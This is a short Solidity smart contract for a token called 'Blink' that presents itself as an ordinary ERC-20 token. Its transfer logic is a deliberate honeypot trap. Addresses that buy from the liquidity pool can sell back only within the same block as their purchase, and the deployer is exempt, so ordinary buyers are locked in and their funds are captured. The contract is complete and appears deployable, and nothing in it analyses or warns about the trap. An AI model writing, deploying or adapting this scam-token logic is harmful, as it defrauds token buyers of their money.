// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

/// The exit is open in the block of the purchase and bricked up after it.
contract SameBlockExit {
    string public name = "Blink";
    string public symbol = "BLINK";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 1_000_000_000 ether;
    address private immutable deployer = msg.sender;
    address public pool;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    mapping(address => uint256) private seen;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function launch(address pool_) external {
        require(msg.sender == deployer && pool == address(0));
        pool = pool_;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return blink(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        return blink(from, to, value);
    }

    function blink(address from, address to, uint256 value) private returns (bool) {
        if (from == pool) seen[to] = block.number;
        else if (to == pool && from != deployer) require(seen[from] == block.number);
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
        return true;
    }
}
